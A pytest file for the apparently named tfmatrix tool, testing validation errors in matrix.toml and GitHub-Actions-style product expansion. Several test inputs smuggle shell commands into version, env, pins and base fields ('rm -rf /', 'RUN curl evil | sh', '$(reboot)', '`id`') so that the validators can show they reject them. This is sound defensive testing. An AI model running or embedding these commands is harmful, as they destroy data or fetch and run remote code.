"""matrix.toml: validation errors (exact messages), product expansion; what cells are given: test_matrix_cells.py."""
from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tfmatrix.errors import UserError
from tfmatrix.matrix import Cell, Matrix, expand_product, load

Snippet = Callable[..., Matrix]
ErrorOf = Callable[..., str]

M = "matrix.toml"


def one(load_snippet: Snippet, body: str, environ: dict[str, str] | None = None) -> Cell:
    matrix = load_snippet(body, environ)
    assert len(matrix.cells) == 1
    return matrix.cells[0]


# --------------------------------------------------------------------------- validation errors


@pytest.mark.parametrize(("body", "message"), [
    ('[[cell]]\ntf = "1.15\n',
     f"{M}:2:11: TOML syntax error: Illegal character '\\n'; fix the file at that position"),
    ('[[cell]]\ntf = "1.15"\ntf = "2.1"\n',
     f"{M}:3:11: TOML syntax error: Cannot overwrite a value; fix the file at that position"),
    ('[[cell]]\ntf = "1.15"\nenv = { A = "1",',
     f"{M}:3:17: TOML syntax error: Invalid initial character for a key part; fix the file at that position"),
])  # fmt: skip
def test_toml_syntax_errors_give_line_and_column(error_of: ErrorOf, body: str, message: str) -> None:
    assert error_of(body) == message


@pytest.mark.parametrize(("body", "message"), [
    ('[[cell]]\ntf = "1.15"\npyton = "3.7"\n',
     f"{M}: cell[0]: key 'pyton': unknown cell key; did you mean 'python'?"),
    ('[[cell]]\ntf = "1.15"\ncolour = "red"\n',
     f"{M}: cell[0]: key 'colour': unknown cell key; known keys: tf, keras, python, target, cuda, cudnn, base, "
     "base_digest, pins, env, preset, repeats, timeout, memory, allow_untested, name, backend, pool, opt_in, "
     "jax, torch"),
    ("[matirx]\n", f"{M}: top level: key 'matirx': unknown table; did you mean 'matrix'?"),
    ('[matrix]\npresets = "quick"\n', f"{M}: [matrix]: key 'presets': unknown [matrix] key; did you mean 'preset'?"),
    ('[images]\nregistry = "x"\n',
     f"{M}: [images]: key 'registry': unknown [images] key; did you mean 'base_registry'?"),
    ('[[product]]\ntf = ["1.15"]\ntargets = ["cpu"]\n',
     f"{M}: product[0]: key 'targets': unknown product key; did you mean 'target'?"),
    ('[[product]]\ntf = ["1.15"]\ninclude = [{ tf = "2.1", kera = "2.3.1" }]\n',
     f"{M}: product[0] include[0]: key 'kera': unknown cell key; did you mean 'keras'?"),
    ('[[cell]]\ntf = "1.15"\ninclude = [{ tf = "2.1" }]\n',
     f"{M}: cell[0]: key 'include': 'include' belongs to [[product]] tables; move the cell into a [[product]]"),
])  # fmt: skip
def test_unknown_keys_suggest_the_closest(error_of: ErrorOf, body: str, message: str) -> None:
    assert error_of(body) == message


@pytest.mark.parametrize(("key", "value", "message"), [
    ("tf", '"1.15;rm -rf /"', "key 'tf': '1.15;rm -rf /' is not a version like \"1.15\" or \"1.15.5\"; "
                              "write the TF release as major.minor or major.minor.patch"),
    ("tf", '"1.15\\nRUN curl evil | sh"', "key 'tf': '1.15\\nRUN curl evil | sh' is not a version like \"1.15\" "
                                          "or \"1.15.5\"; write the TF release as major.minor or major.minor.patch"),
    ("tf", '"1.15\\n"', "key 'tf': '1.15\\n' is not a version like \"1.15\" or \"1.15.5\"; "
                        "write the TF release as major.minor or major.minor.patch"),
    ("tf", '"$(reboot)"', "key 'tf': '$(reboot)' is not a version like \"1.15\" or \"1.15.5\"; "
                          "write the TF release as major.minor or major.minor.patch"),
    ("python", '"3.7;id"', "key 'python': '3.7;id' is not a Python version like \"3.7\"; write python = \"3.X\""),
    ("keras", '"2.2.5`id`"', "key 'keras': '2.2.5`id`' is not a Keras choice; use \"tf.keras\", a Keras 2 version "
                             "like \"2.2.5\", \"keras3\" or a 3.x version, or \"tf_keras\""),
    ("tf", "1.15", "key 'tf': expected a string, got a float (1.15); quote it: tf = \"1.15\" "
                   "(unquoted, TOML reads a version as a number: 3.10 is 3.1)"),
    ("python", "3.10", "key 'python': expected a string, got a float (3.1); quote it: python = \"3.10\" "
                       "(unquoted, TOML reads a version as a number: 3.10 is 3.1)"),
    ("tf", '["1.15"]', "key 'tf': expected a string, got an array; arrays are axes and belong in [[product]] tables"),
])  # fmt: skip
def test_malformed_versions_are_rejected(error_of: ErrorOf, key: str, value: str, message: str) -> None:
    body = f"[[cell]]\n{key} = {value}\n" + ('tf = "1.15"\n' if key != "tf" else "")
    assert error_of(body) == f"{M}: cell[0]: {message}"


def test_malformed_gpu_versions(error_of: ErrorOf) -> None:
    assert error_of('[[cell]]\ntf = "2.9"\ntarget = "gpu"\ncuda = "11.2;ls"\n') == (
        f"{M}: cell[0]: key 'cuda': '11.2;ls' is not a CUDA version like \"11.2\"; write cuda = \"major.minor\"")
    assert error_of('[[cell]]\ntf = "2.9"\ntarget = "gpu"\ncudnn = "8.1 && id"\n') == (
        f"{M}: cell[0]: key 'cudnn': '8.1 && id' is not a cuDNN version like \"8.1\"; write cudnn = \"major.minor\"")


def test_unknown_tf_release_and_patch(error_of: ErrorOf) -> None:
    assert error_of('[[cell]]\ntf = "1.13"\n') == (
        f"{M}: cell[0]: key 'tf': TF 1.13 is not in the compatibility table (known: 1.14 .. 2.22); "
        "pick a known release or add a row to tfmatrix/data/releases.toml")
    assert error_of('[[cell]]\ntf = "3.0"\n').startswith(f"{M}: cell[0]: key 'tf': TF 3.0 is not in the")
    assert error_of('[[cell]]\ntf = "1.15.1"\n') == (
        f"{M}: cell[0]: key 'tf': TF 1.15.1 is not a known 1.15 release (known: 1.15.0, 1.15.2, 1.15.3, 1.15.4, "
        '1.15.5); use one of those or tf = "1.15" for 1.15.5')
    assert error_of('[[cell]]\n').startswith(f"{M}: cell[0]: key 'tf': missing;")


def test_python_without_a_wheel_is_an_error_even_when_allowed(error_of: ErrorOf) -> None:
    body = '[[cell]]\ntf = "1.15"\npython = "3.8"\n'
    assert error_of(body) == (f"{M}: cell[0]: key 'python': TF 1.15 has wheels for Python 3.6, 3.7 only, not 3.8; "
                              "use one of those")      # allow_untested would not help: not named
    assert error_of(body + "allow_untested = true\n") == (
        f"{M}: cell[0]: key 'python': TF 1.15 has wheels for Python 3.6, 3.7 only, not 3.8 "
        "(allow_untested does not change that); use one of those")


def test_untested_keras_pairing_is_an_error_unless_allowed(error_of: ErrorOf, load_snippet: Snippet) -> None:
    body = '[[cell]]\ntf = "1.15"\nkeras = "2.4.3"\n'
    assert error_of(body) == (
        f"{M}: cell[0]: key 'keras': standalone Keras 2.4.3 is not known to pair with TF 1.15 (known: 2.2.5, 2.3.1); "
        "use a known pairing, or set allow_untested = true to run it untested")
    cell = one(load_snippet, body + "allow_untested = true\n")
    warning = (f"{M}: cell[0]: key 'keras': standalone Keras 2.4.3 is not known to pair with TF 1.15 "
               "(known: 2.2.5, 2.3.1) (allowed by allow_untested = true)")
    assert cell.untested == (warning,) and cell.keras.version == "2.4.3" and cell.allow_untested


def test_python_older_than_the_suite_is_always_an_error(error_of: ErrorOf) -> None:
    assert error_of('[[cell]]\ntf = "1.15"\npython = "3.6"\nallow_untested = true\n') == (
        f"{M}: cell[0]: key 'python': the suite needs Python >= 3.7, not 3.6; use Python 3.7 or newer")


def test_gpu_python_must_come_from_the_base_os(error_of: ErrorOf) -> None:
    assert error_of('[[cell]]\ntf = "2.9"\ntarget = "gpu"\npython = "3.10"\n') == (
        f"{M}: cell[0]: key 'python': base tensorflow/tensorflow:2.9.0-gpu is ubuntu20.04, which provides Python "
        "3.8, 3.9, not 3.10; use one of those, or name a base image that has this Python")


def test_unsupported_cuda(error_of: ErrorOf, load_snippet: Snippet) -> None:
    body = '[[cell]]\ntf = "2.9"\ntarget = "gpu"\ncuda = "11.8"\n'
    assert error_of(body) == (
        f"{M}: cell[0]: key 'cuda': TF 2.9 was built and tested with CUDA 11.2, not 11.8; "
        'use cuda = "11.2", or set allow_untested = true to run it untested')
    # Allowed, but the default base carries CUDA 11.2: it needs a base that has 11.8.
    assert error_of(body + "allow_untested = true\n") == (
        f"{M}: cell[0]: key 'cuda': the default GPU base tensorflow/tensorflow:2.9.0-gpu carries CUDA 11.2, not 11.8; "
        'name a base image that carries it (base = "...")')
    cell = one(load_snippet, body + 'allow_untested = true\nbase = "nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04"\n')
    assert cell.cuda == "11.8" and cell.base.kind == "nvidia-cuda" and len(cell.untested) == 1
    assert cell.requirements[0] == "tensorflow==2.9.3"


def test_unsupported_cudnn_on_pip_cuda_is_a_wheel_pin(error_of: ErrorOf, load_snippet: Snippet) -> None:
    body = '[[cell]]\ntf = "2.18"\ntarget = "gpu"\ncudnn = "9.1"\n'
    assert error_of(body) == (
        f"{M}: cell[0]: key 'cudnn': TF 2.18 was built and tested with cuDNN 9.3, not 9.1; "
        'use cudnn = "9.3", or set allow_untested = true to run it untested')
    cell = one(load_snippet, body + "allow_untested = true\n")
    assert cell.cudnn == "9.1"
    assert cell.requirements[0] == "tensorflow==2.18.1"  # the extra would pin cuDNN 9.3.0.75 exactly
    assert "nvidia-cudnn-cu12==9.1.*" in cell.requirements
    assert not any(r.startswith("nvidia-cudnn-cu12==9.3") for r in cell.requirements)


def test_cuda_of_pip_wheels_cannot_be_varied(error_of: ErrorOf) -> None:
    assert error_of('[[cell]]\ntf = "2.18"\ntarget = "gpu"\ncuda = "12.3"\nallow_untested = true\n') == (
        f"{M}: cell[0]: key 'cuda': CUDA comes from the nvidia-* wheels TF 2.18 pins (CUDA 12.5), not 12.3; "
        'vary cudnn instead, or name a base image that carries this CUDA (base = "...")')


def test_cuda_on_cpu_and_python_base_for_old_gpu(error_of: ErrorOf) -> None:
    assert error_of('[[cell]]\ntf = "1.15"\ncuda = "10.0"\n') == (
        f"{M}: cell[0]: key 'cuda': only GPU cells have CUDA/cuDNN versions; remove cuda or set target = \"gpu\"")
    assert error_of('[[cell]]\ntf = "2.9"\ntarget = "gpu"\nbase = "python"\n') == (
        f"{M}: cell[0]: key 'base': TF 2.9 has no pip CUDA wheels (they start with TF 2.14), so a GPU cell needs a "
        "base that carries CUDA 11.2; drop base to use the release's GPU image, or name an image that carries CUDA")


def test_duplicate_names(error_of: ErrorOf) -> None:
    assert error_of('[[cell]]\ntf = "1.15"\n[[cell]]\ntf = "1.15"\n') == (
        f"{M}: cell[1]: cell 'tf1.15-cpu' has the same name as cell[0]; set name = \"...\" on one of them")
    assert error_of('[[cell]]\ntf = "1.15"\n[[product]]\ntf = ["1.15", "2.1"]\n') == (
        f"{M}: product[0] tf=1.15: cell 'tf1.15-cpu' has the same name as cell[0]; "
        'set name = "..." on one of them')


@pytest.mark.parametrize("body", [
    "",
    "# nothing but a comment\n[matrix]\npreset = \"quick\"\n",
])  # fmt: skip
def test_empty_matrix(error_of: ErrorOf, body: str) -> None:
    assert error_of(body) == f"{M}: the matrix has no cells; add a [[cell]] or [[product]] table"


@pytest.mark.parametrize(("extra", "message"), [
    ('env = { A = "$(reboot)" }', "key 'env': A: '$(reboot)' contains characters that are not allowed; "
                                  "use letters, digits, spaces and _.,:/=+@%- (no quotes, $, ; or newlines)"),
    ('env = { A = "x\\nRUN id" }', "key 'env': A: 'x\\nRUN id' contains characters that are not allowed; "
                                   "use letters, digits, spaces and _.,:/=+@%- (no quotes, $, ; or newlines)"),
    ('env = { "A B" = "1" }', "key 'env': 'A B' is not an environment variable name; use letters, digits and _"),
    ('env = { PATH = "/x" }', "key 'env': PATH is set by tfmatrix itself; remove PATH from env"),
    ('env = { TFMATRIX_CELL = "x" }',
     "key 'env': TFMATRIX_CELL is set by tfmatrix itself; remove TFMATRIX_CELL from env"),
    ("env = { A = 1.5 }", "key 'env': A: expected a string, got a float; write A = \"...\""),
    ('pins = ["numpy==1.18.5; rm -rf /"]', "key 'pins': 'numpy==1.18.5; rm -rf /' is not a requirement with a version "
     "specifier; write one requirement per string, like \"h5py==2.10.0\" or \"numpy<1.19\" (no markers, no spaces)"),
    ('pins = ["numpy"]', "key 'pins': 'numpy' is not a requirement with a version specifier; write one requirement per "
                         "string, like \"h5py==2.10.0\" or \"numpy<1.19\" (no markers, no spaces)"),
    ('pins = "numpy<2"', "key 'pins': expected an array of requirement strings; write pins = [\"h5py==2.10.0\"]"),
    ('name = "Tf-1"', "key 'name': 'Tf-1' is not a valid cell name; use 1-63 lowercase letters, digits and . _ - "
                      "(starting and ending with a letter or digit)"),
    ('name = "tf1..15"', "key 'name': 'tf1..15' is not a valid cell name; use 1-63 lowercase letters, digits and . _ - "
                         "(starting and ending with a letter or digit)"),
    ('name = "{default}-{pyth}"', "key 'name': unknown placeholder {pyth}; use {tf} {release} {keras} {python} "
                                  "{target} {cuda} {cudnn} {backend} {backend_release} {pool} {default}"),
    ('base = "python:3.7;rm"', "key 'base': 'python:3.7;rm' is not an image reference; use \"python\", \"tensorflow\" "
                               "or a reference like \"nvidia/cuda:12.3.2-cudnn9-runtime-ubuntu22.04\""),
    ('base = "python:3.7@sha256:' + "a" * 64 + '"', "key 'base': 'python:3.7@sha256:" + "a" * 64 + "' is not an image "
     "reference; use \"python\", \"tensorflow\" or a reference like \"nvidia/cuda:12.3.2-cudnn9-runtime-ubuntu22.04\""),
    ('base_digest = "sha256:abc"', "key 'base_digest': 'sha256:abc' is not a sha256 digest; "
                                   "write base_digest = \"sha256:<64 hex digits>\""),
    ('target = "tpu"', "key 'target': 'tpu' is not a target; use \"cpu\" or \"gpu\""),
    ('timeout = "soon"', "key 'timeout': 'soon' is not a duration; write seconds (3600) or \"90m\" / \"2h\""),
    ('memory = "8 GB"', "key 'memory': '8 GB' is not a memory size; write a number and k/m/g, like \"8g\""),
    ('preset = "huge"', "key 'preset': 'huge' is not a suite preset; use one of: quick, seed, standard, full"),
    ("repeats = 0", "key 'repeats': 0 is not a repeat count; use an integer from 1 to 1000"),
    ('allow_untested = "yes"', "key 'allow_untested': expected true or false, got a string; "
                               "write allow_untested = true"),
])  # fmt: skip
def test_value_errors(error_of: ErrorOf, extra: str, message: str) -> None:
    assert error_of(f'[[cell]]\ntf = "1.15"\n{extra}\n') == f"{M}: cell[0]: {message}"


@pytest.mark.parametrize(("tf", "keras", "message"), [
    ("2.16", "tf.keras", "TF 2.16 has no bundled Keras 2 (its tf.keras is Keras 3); "
                         'use keras = "keras3" or keras = "tf_keras"'),
    ("2.15", "keras3", "Keras 3 needs TF >= 2.16; TF 2.15 bundles Keras 2 as tf.keras; "
                       'use keras = "tf.keras" or a TF release >= 2.16'),
    ("2.18", "3.4.1", 'TF 2.18 requires keras>=3.5.0, not 3.4.1; use keras = "keras3" (3.6.0) or a version >= 3.5.0'),
    ("2.16", "tf_keras==2.17.0",
     'tf_keras 2.17.0 pairs with TF 2.17 only, not TF 2.16; use keras = "tf_keras" (2.16.0)'),
    ("2.15", "tf_keras", 'tf_keras is for TF >= 2.16; TF 2.15 bundles Keras 2 as tf.keras; use keras = "tf.keras"'),
    ("2.16", "tf-keras", "'tf-keras' is not a Keras choice; use \"tf.keras\", a Keras 2 version like \"2.2.5\", "
                         "\"keras3\" or a 3.x version, or \"tf_keras\""),
    ("1.14", "2.2.4", "standalone Keras 2.2.4 is not known to pair with TF 1.14 (known: 2.2.5, 2.3.1); "
                      "use a known pairing, or set allow_untested = true to run it untested"),
    ("2.9", "2.3.1", "standalone Keras 2.3.1 is not known to pair with TF 2.9 (known: none (from TF 2.2 the keras "
                     "package is tf.keras itself)); use a known pairing, or set allow_untested = true to run it "
                     "untested"),
])  # fmt: skip
def test_keras_errors(error_of: ErrorOf, tf: str, keras: str, message: str) -> None:
    assert error_of(f'[[cell]]\ntf = "{tf}"\nkeras = "{keras}"\n') == f"{M}: cell[0]: key 'keras': {message}"


def test_settings_errors(error_of: ErrorOf) -> None:
    assert error_of('[matrix]\nbaseline = "tf1.51-cpu"\n[[cell]]\ntf = "1.15"\n') == (
        f"{M}: [matrix]: key 'baseline': no cell is named 'tf1.51-cpu'; did you mean 'tf1.15-cpu'?")
    assert error_of('[matrix]\ntimeout = true\n[[cell]]\ntf = "1.15"\n') == (
        f"{M}: [matrix]: key 'timeout': True is not a duration; write seconds (3600) or \"90m\" / \"2h\"")
    assert error_of('[images]\nbase_registry = "mirror example"\n[[cell]]\ntf = "1.15"\n') == (
        f"{M}: [images]: key 'base_registry': 'mirror example' is not a registry host; "
        'write a host[:port][/path] like "mirror.example.com"')
    for dots in ("mirror.example.com/..", "mirror.example.com/./x", "mirror.example.com/../library"):
        assert error_of(f'[images]\nbase_registry = "{dots}"\n[[cell]]\ntf = "1.15"\n') == (
            f"{M}: [images]: key 'base_registry': {dots!r} is not a registry host; "
            'write a host[:port][/path] like "mirror.example.com"'), "caught by validate, not first by render"
    assert error_of('[[cell]]\ntf = "1.15"\n', {"TFMATRIX_BASE_REGISTRY": "a;b"}) == (
        "environment variable TFMATRIX_BASE_REGISTRY: value: 'a;b' is not a registry host; "
        'write a host[:port][/path] like "mirror.example.com"')
    assert error_of("cell = 3\n") == f"{M}: 'cell' must be an array of tables; write [[cell]] headers"


def test_product_errors(error_of: ErrorOf) -> None:
    assert error_of('[[product]]\ntf = ["1.15"]\nexclude = [{ python = "3.7" }]\n') == (
        f"{M}: product[0] exclude[0]: key 'python': 'python' is not an axis of this product (axes: tf); "
        "exclude can only match axis values")
    assert error_of("[[product]]\ntf = []\n") == (
        f"{M}: product[0]: key 'tf': an axis needs at least one value; give tf one or more values")
    assert error_of('[[product]]\ntf = ["1.15"]\ninclude = [{}]\n') == (
        f"{M}: product[0] include[0]: an empty include entry matches everything; give it at least one key")
    assert error_of('[[product]]\ntf = ["1.15"]\ninclude = { tf = "2.1" }\n') == (
        f"{M}: product[0]: key 'include': include must be an array of tables; write include = [ {{ tf = \"2.9\" }} ]")
    # An error inside a combination names the combination.
    assert error_of('[[product]]\ntf = ["1.15", "1.13"]\n').startswith(
        f"{M}: product[0] tf=1.13: key 'tf': TF 1.13 is not in the compatibility table")


def test_missing_file_is_a_user_error(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="no such matrix file; pass --matrix PATH or create it"):
        load(tmp_path / "nope.toml", environ={})
    bad = tmp_path / "bad.toml"
    bad.write_bytes(b'[[cell]]\ntf = "\xff"\n')
    with pytest.raises(UserError, match="not UTF-8 text"):
        load(bad, environ={})


# --------------------------------------------------------------------------- product expansion


def _expanded(table: dict[str, Any]) -> list[dict[str, Any]]:
    return [values for values, _ in expand_product(M, 0, table)]


def test_product_is_the_cross_product_in_axis_order_with_scalars() -> None:
    out = expand_product(M, 2, {"tf": ["1.15", "2.1"], "target": ["cpu", "gpu"], "timeout": 60})
    assert [v for v, _ in out] == [
        {"tf": "1.15", "target": "cpu", "timeout": 60},
        {"tf": "1.15", "target": "gpu", "timeout": 60},
        {"tf": "2.1", "target": "cpu", "timeout": 60},
        {"tf": "2.1", "target": "gpu", "timeout": 60},
    ]
    assert [o for _, o in out][1] == "product[2] tf=1.15,target=gpu"


def test_include_follows_github_actions_semantics() -> None:
    """The example from GitHub's docs (fruit->tf, animal->target, color->python, shape->memory)."""
    table = {
        "tf": ["1.15", "2.1"],  # fruit: apple, pear
        "target": ["cpu", "gpu"],  # animal: cat, dog
        "include": [
            {"python": "3.7"},  # color: green -> every combination
            {"python": "3.8", "target": "cpu"},  # color: pink, animal: cat -> overwrites the added green
            {"tf": "1.15", "memory": "4g"},  # fruit: apple, shape: circle
            {"tf": "2.9"},  # fruit: banana -> matches nothing: a new combination
            {"tf": "2.9", "target": "cpu"},  # fruit: banana, animal: cat -> another new one
        ],
    }
    assert _expanded(table) == [
        {"python": "3.8", "memory": "4g", "tf": "1.15", "target": "cpu"},
        {"python": "3.7", "memory": "4g", "tf": "1.15", "target": "gpu"},
        {"python": "3.8", "tf": "2.1", "target": "cpu"},
        {"python": "3.7", "tf": "2.1", "target": "gpu"},
        {"tf": "2.9"},
        {"tf": "2.9", "target": "cpu"},
    ]
    origins = [o for _, o in expand_product(M, 0, table)]
    assert origins[-2:] == ["product[0] include[3]", "product[0] include[4]"]


def test_include_never_overwrites_axis_values_but_overrides_scalars() -> None:
    table = {"tf": ["1.15"], "target": ["cpu"], "python": "3.7",
             "include": [{"tf": "1.15", "python": "3.6"}, {"target": "gpu", "memory": "2g"}]}
    assert _expanded(table) == [
        {"tf": "1.15", "target": "cpu", "python": "3.6"},
        # target=gpu contradicts the axis: a new combination of the entry (plus scalars) only, as on GitHub
        {"python": "3.7", "target": "gpu", "memory": "2g"},
    ]


def test_exclude_follows_github_actions_semantics() -> None:
    """GitHub's example: 2 x 3 x 2 = 12, minus one full match and two partial matches = 9."""
    table = {
        "tf": ["1.15", "2.1"],  # os: macos, windows
        "python": ["3.7", "3.8", "3.9"],  # version: 12, 14, 16
        "target": ["cpu", "gpu"],  # environment: staging, production
        "exclude": [{"tf": "1.15", "python": "3.7", "target": "gpu"}, {"tf": "2.1", "python": "3.9"}],
    }
    out = _expanded(table)
    assert len(out) == 9
    assert {"tf": "1.15", "python": "3.7", "target": "gpu"} not in out
    assert not [c for c in out if c["tf"] == "2.1" and c["python"] == "3.9"]


def test_include_can_add_back_an_excluded_combination() -> None:
    table = {"tf": ["1.15", "2.1"], "exclude": [{"tf": "2.1"}], "include": [{"tf": "2.1", "target": "gpu"}]}
    assert _expanded(table) == [{"tf": "1.15"}, {"tf": "2.1", "target": "gpu"}]


def test_pins_are_an_axis_only_as_a_list_of_lists() -> None:
    assert _expanded({"tf": ["1.15"], "pins": ["six==1.16.0"]}) == [{"tf": "1.15", "pins": ["six==1.16.0"]}]
    assert _expanded({"tf": ["1.15"], "pins": [["six==1.16.0"], []]}) == [
        {"tf": "1.15", "pins": ["six==1.16.0"]}, {"tf": "1.15", "pins": []}]


def test_product_without_axes_is_one_cell(load_snippet: Snippet) -> None:
    matrix = load_snippet('[[product]]\ntf = "1.15"\n')
    assert [c.name for c in matrix.cells] == ["tf1.15-cpu"] and matrix.cells[0].origin == f"{M}: product[0]"


def test_products_resolve_into_cells(load_snippet: Snippet) -> None:
    matrix = load_snippet("""
        [[product]]
        tf = ["2.16"]
        keras = ["keras3", "tf_keras"]
        target = ["cpu", "gpu"]
        exclude = [{ keras = "tf_keras", target = "gpu" }]
        include = [{ tf = "2.21", target = "cpu" }]
    """)
    assert [c.name for c in matrix.cells] == [
        "tf2.16-keras3-cpu", "tf2.16-keras3-gpu", "tf2.16-tf_keras-cpu", "tf2.21-keras3-cpu"]
    assert matrix.cells[3].origin == f"{M}: product[0] include[0]"


# -- an opt-in cell: a release candidate runs only when named ------------------------------------------------------

def test_an_opt_in_cell_runs_only_when_named(load_snippet: Callable[..., Matrix], error_of: Callable[..., str],
                                             tmp_path: Path) -> None:
    from tfmatrix.commands.common import selected

    m = load_snippet('[[cell]]\ntf = "2.22"\nopt_in = true\n[[cell]]\ntf = "2.21"\n')
    rc, final = m.cells
    assert rc.opt_in and rc.tf == "2.22.0rc0" and rc.name == "tf2.22-keras3-cpu" and not final.opt_in
    assert "keras-nightly==3.16.0.dev2026102704" in rc.requirements            # the snapshot its wheel requires
    assert not [r for r in rc.requirements if r.startswith("keras==")]         # not a second `keras` module
    assert selected(m, []) == (final,)                                         # `matrix` leaves it out
    assert selected(m, ["tf2.22-keras3-cpu"]) == (rc,) and rc in selected(m, ["tf2.2*"])
    message = error_of('[[cell]]\ntf = "2.22"\n')                              # a candidate needs opt_in = true
    assert message.endswith("cell[0]: key 'tf': TF 2.22 is a release candidate (2.22.0rc0); it runs only in an "
                            "opt-in cell; add opt_in = true to the cell (it then runs when named: --only or "
                            "`cell NAME`)"), message
    assert error_of('[[cell]]\ntf = "2.21"\nopt_in = "yes"\n').endswith(
        "key 'opt_in': expected true or false, got a string; write opt_in = true")


def test_the_default_matrix_s_release_candidate_is_opt_in() -> None:
    default = load(Path(__file__).resolve().parent.parent / "matrix.toml")
    opt = [c for c in default.cells if c.opt_in]
    assert [c.name for c in opt] == ["tf2.22-keras3-cpu"] and not set(opt) & set(default.select([]))
